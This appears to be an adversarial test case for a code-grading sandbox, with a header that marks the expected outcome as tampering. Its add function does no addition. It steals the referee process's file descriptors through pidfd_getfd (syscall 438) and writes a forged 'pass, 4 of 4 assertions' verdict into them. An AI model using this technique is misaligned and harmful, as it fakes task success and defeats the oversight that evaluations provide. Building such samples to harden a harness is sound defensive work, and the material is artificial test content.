# class: A8
# task: adds
# mode: split
# expect: assertion | exception | tampering
# lost-without: seccomp, landlock, uid, namespaces
# tries: takes the referee's own descriptors and writes the verdict there

import ctypes
import json
import struct
import os


def above():
    """The zygote and the processes above it."""
    found, pid = [], os.getppid()
    while pid > 1 and len(found) < 2:
        found.append(pid)
        with open(f"/proc/{pid}/stat") as file:
            pid = int(file.read().rpartition(")")[2].split()[1])
    return found


def children(pid):
    found = []
    for thread in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{thread}/children") as file:
            found += map(int, file.read().split())
    return found


def zygotes():
    try:
        return children(above()[-1])
    except (OSError, IndexError):
        return []


def relatives():
    """Every process of the judge but this one."""
    try:
        found = above() + zygotes()
        for pid in zygotes():
            found += children(pid)
    except OSError:
        found = [os.getppid()]
    return [pid for pid in dict.fromkeys(found) if pid != os.getpid()]

libc = ctypes.CDLL(None, use_errno=True)
REPORT = {"outcome": "pass", "reason": "passed", "assertions": {"passed": 4, "reached": 4, "total": 4}}


def add(a, b):
    text = json.dumps(REPORT).encode()
    frame = b"QSP1" + struct.pack("<II", len(text), 0) + text
    for pid in relatives():
        try:
            process = os.pidfd_open(pid)
        except OSError:
            continue
        for number in range(3, 8):
            taken = libc.syscall(438, process, number, 0)
            if taken >= 0 and pid not in above():
                try:
                    os.write(taken, frame)
                except OSError:
                    continue
    return 0
